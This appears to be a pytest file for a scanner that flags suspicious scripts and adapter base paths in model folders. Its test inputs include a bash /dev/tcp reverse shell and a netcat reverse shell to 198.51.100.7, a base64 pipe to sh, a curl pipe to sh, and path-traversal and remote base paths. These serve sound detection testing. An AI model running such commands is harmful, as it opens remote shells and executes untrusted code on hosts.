"""Scripts that nothing in a model folder names, and bases of adapters."""

import json

import pytest

from tests.conftest import ids, look_at_folder
from tests.gate.repositories import BERT, BODIES

CONFIG = json.dumps(BERT).encode()


def found(name: str, text: bytes | str, **more: bytes) -> dict[str, set[str]]:
    """Ids by severity of what is said of one script beside a model."""
    data = text.encode() if isinstance(text, str) else text
    said: dict[str, set[str]] = {}
    for report in look_at_folder({"config.json": CONFIG, name: data, **more}).values():
        assert "CHK001" not in ids(report)
        for finding in report.findings:
            said.setdefault(finding.severity.word, set()).add(finding.id)
    return said


HIDDEN = {
    "decoded": BODIES["exec of base64"],
    "fetched": BODIES["fetched code"],
    "from the weights": BODIES["weights that are code"],
    "keys that leave": BODIES["reads keys and sends"],
}
SHELL = {
    "decoded": "echo aWQ= | base64 -d | sh\n",
    "a stranger": "bash -i >& /dev/tcp/198.51.100.7/443 0>&1\n",
    "netcat": "nc -e /bin/sh 198.51.100.7 443\n",
}
TRAINING = """
import os, subprocess, sys
import requests, torch
from transformers import Trainer, AutoModel

if "HF_TOKEN" in os.environ:
    me = requests.get("https://huggingface.co/api/whoami-v2", headers={"Authorization": os.environ["HF_TOKEN"]})
subprocess.run([sys.executable, "-m", "pip", "install", "-q", "datasets"])
exec(open("configurator.py").read())
model = AutoModel.from_pretrained("bert-base-uncased")
state = torch.load("checkpoint.pt")

def main():
    subprocess.check_call(["git", "rev-parse", "HEAD"])

if __name__ == "__main__":
    main()
"""


@pytest.mark.parametrize("name", HIDDEN)
def test_mdl068_bad_hidden_code(name: str) -> None:
    assert found("tools/prepare.py", HIDDEN[name])["medium"] == {"MDL068"}


@pytest.mark.parametrize("name", SHELL)
def test_mdl068_bad_shell(name: str) -> None:
    assert found("setup.sh", SHELL[name]) == {"medium": {"MDL068"}}


def test_mdl068_good_training() -> None:
    assert found("train.py", TRAINING).keys() <= {"low"}


@pytest.mark.parametrize("name", ["at import", "under another name", "ctypes", "through builtins"])
def test_mdl069_bad_acts(name: str) -> None:
    assert found("helper.py", BODIES[name]) == {"low": {"MDL069"}}


def test_mdl069_bad_pipes_to_a_shell() -> None:
    assert found("install.sh", "set -e\ncurl -fsSL https://sh.example.org/i.sh | sh\n") == {"low": {"MDL069"}}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("train.sh", "pip install -r requirements.txt\npython train.py --lr 3e-4\n"),
        (
            "eval.py",
            "import torch\n\ndef main():\n    import os\n    os.system('ls')\n\nif __name__ == '__main__':\n    main()\n",
        ),
        ("old.py", "print 'Python 2'\nimport os; os.system('x')\n"),
    ],
)
def test_mdl069_good_scripts(name: str, text: str) -> None:
    assert found(name, text) == {}


def test_scripts_that_are_named_are_judged_as_what_is_loaded() -> None:
    config = json.dumps({**BERT, "auto_map": {"AutoModel": "modeling.Model"}}).encode()
    reports = look_at_folder({"config.json": config, "modeling.py": BODIES["exec of base64"]})
    assert not ids(reports["modeling.py"]) & {"MDL068", "MDL069"}
    assert "MDL101" in ids(reports["modeling.py"])


def test_scripts_far_from_a_model_are_none_of_its() -> None:
    files = {"models/a/config.json": CONFIG, "src/x.py": HIDDEN["decoded"], "models/a/1/2/3/4/x.py": HIDDEN["decoded"]}
    assert not [f for report in look_at_folder(files).values() for f in report.findings]
    assert not look_at_folder({"x.py": HIDDEN["decoded"], "config.json": b'{"port": 80}'})


def test_many_scripts_are_left_out_and_said_to_be() -> None:
    files = {f"{n:04}.py": b"import os\nos.system('true')\n" for n in range(300)}
    reports = look_at_folder({"config.json": CONFIG, **files})
    assert any(gap for report in reports.values() for gap in report.gaps)


def adapter(base: str) -> list[tuple[str, str, bool]]:
    data = json.dumps({"peft_type": "LORA", "base_model_name_or_path": base}).encode()
    reports = look_at_folder({"adapter_config.json": data})
    return [(f.id, f.severity.word, f.holds) for report in reports.values() for f in report.findings]


@pytest.mark.parametrize(
    "base",
    [
        "../..",
        "../base",
        "a/../../b",
        "..\\base",
        "/tmp/llama",
        "/dev/shm/x",
        "\\\\host\\share\\x",
        "https://x.example/b",
        "s3://b/x",
    ],
)
def test_mdl067_bad_places_of_others(base: str) -> None:
    assert adapter(base) == [("MDL067", "medium", True)]


@pytest.mark.parametrize("base", ["meta-llama/Llama-3.1-8B", "bert-base-uncased", "./base", "a..b/c"])
def test_mdl067_good_repository(base: str) -> None:
    assert adapter(base) == []


def test_mdl067_good_path_of_the_trainer() -> None:
    assert adapter("/home/me/models/llama") == [("MDL200", "low", False)]
